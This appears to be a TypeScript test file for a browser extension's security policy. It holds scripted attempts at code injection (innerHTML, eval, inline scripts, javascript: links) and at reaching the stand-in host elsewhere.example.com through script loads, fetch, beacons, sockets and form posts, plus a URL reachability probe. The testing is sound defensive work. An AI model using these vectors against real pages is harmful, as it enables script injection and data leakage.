/*
 * Expressions that try, in an extension page, what injected code could do through a flaw in our
 * own code or a library. Each returns the names of the attempts that succeeded.
 */

/** Attempts with markup, text as code, foreign frames, images, forms and URLs. */
export const THROUGH_THE_WALLS = `(async () => {
  const FOREIGN = 'https://elsewhere.example.com/wall';
  // Code sent by a debugger may use eval, whatever the policy says, until it first awaits
  // something.
  await new Promise((resolve) => setTimeout(resolve, 50));
  const through = [];
  const root = document.body.appendChild(document.createElement('div'));
  const may = async (name, attempt) => {
    try {
      if (await attempt()) through.push(name);
    } catch {}
  };
  const loads = (element) => new Promise((resolve) => {
    element.addEventListener('load', () => resolve(true));
    element.addEventListener('error', () => resolve(false));
    document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true });
    setTimeout(resolve, 1500, false);
    root.append(element);
  });
  const made = (name, properties) => Object.assign(document.createElement(name), properties);
  await may('innerHTML', () => { root.innerHTML = '<b>x</b>'; return true; });
  await may('outerHTML', () => { root.firstChild.outerHTML = '<b>x</b>'; return true; });
  await may('insertAdjacentHTML', () => { root.insertAdjacentHTML('beforeend', '<b>x</b>'); return true; });
  await may('srcdoc', () => { made('iframe', { srcdoc: '<b>x</b>' }); return true; });
  await may('document.write', () => { document.write('<b>x</b>'); return true; });
  await may('DOMParser', () => { new DOMParser().parseFromString('<b>x</b>', 'text/html'); return true; });
  await may('eval', () => eval('1') === 1);
  await may('Function', () => new Function('return 1')() === 1);
  await may('a timer of text', () => new Promise((resolve) => {
    globalThis.__timer = () => resolve(true);
    setTimeout('globalThis.__timer()', 0);
    setTimeout(resolve, 300, false);
  }));
  await may('an inline handler', () => {
    const button = made('button', {});
    button.setAttribute('onclick', 'globalThis.__clicked = true');
    root.append(button);
    button.click();
    return globalThis.__clicked === true;
  });
  await may('an inline script', () => {
    const script = made('script', {});
    script.append('globalThis.__ran = true');
    root.append(script);
    return globalThis.__ran === true;
  });
  await may('a script from elsewhere', () => loads(made('script', { src: FOREIGN })));
  await may('a policy of one’s own', () => Boolean(trustedTypes.createPolicy('x', {})));
  await may('a picture', () => loads(made('img', { src: FOREIGN })));
  await may('a sheet', () => loads(made('link', { rel: 'stylesheet', href: FOREIGN })));
  await may('a fetch', () => fetch(FOREIGN, { mode: 'no-cors' }).then(() => true));
  await may('a beacon', () => { navigator.sendBeacon(FOREIGN, 'x'); return false; });
  await may('a socket', () => new Promise((resolve) => {
    const socket = new WebSocket('wss://elsewhere.example.com/wall');
    socket.onopen = () => resolve(true);
    socket.onerror = () => resolve(false);
  }));
  await may('a worker', () => Boolean(new Worker(URL.createObjectURL(new Blob(['1'])))) && false);
  await may('a form', () => new Promise((resolve) => {
    const frame = made('iframe', { name: 'target' });
    const form = made('form', { action: FOREIGN, method: 'post', target: 'target' });
    root.append(frame, form);
    document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true });
    form.submit();
    setTimeout(resolve, 1500, false);
  }));
  await may('a base', () => {
    const before = document.baseURI;
    document.head.append(made('base', { href: 'https://elsewhere.example.com/' }));
    return document.baseURI !== before;
  });
  await may('a javascript: link', () => {
    const link = made('a', { href: 'javascript:globalThis.__went = true' });
    root.append(link);
    link.click();
    return new Promise((resolve) => setTimeout(() => resolve(globalThis.__went === true), 300));
  });
  root.remove();
  return through;
})()`;

/**
 * For any web page without a policy of its own: requests files in every way a page can, and returns
 * the result of each. Times are left out.
 */
export const probe = (urls: readonly string[]): string => `(async () => {
  const ways = {
    fetch: (url) => fetch(url).then(() => 'there', ({ name, message }) => name + message),
    blind: (url) => fetch(url, { mode: 'no-cors' }).then(() => 'there', ({ name, message }) => name + message),
    image: (url) => element('img', 'src', url),
    script: (url) => element('script', 'src', url),
    sheet: (url) => element('link', 'href', url, { rel: 'stylesheet' }),
    object: (url) => element('object', 'data', url),
  };
  const element = (name, attribute, url, more = {}) => new Promise((resolve) => {
    const one = Object.assign(document.createElement(name), more);
    one.onload = () => { resolve('there'); one.remove(); };
    one.onerror = () => { resolve('not there'); one.remove(); };
    setTimeout(() => { resolve('silence'); one.remove(); }, 1500);
    one[attribute] = url;
    document.documentElement.append(one);
  });
  const answers = {};
  for (const url of ${JSON.stringify(urls)}) {
    answers[url] = JSON.stringify(Object.fromEntries(await Promise.all(
      Object.entries(ways).map(async ([way, ask]) => [way, (await ask(url)).replaceAll(url, '')]))));
  }
  return answers;
})()`;
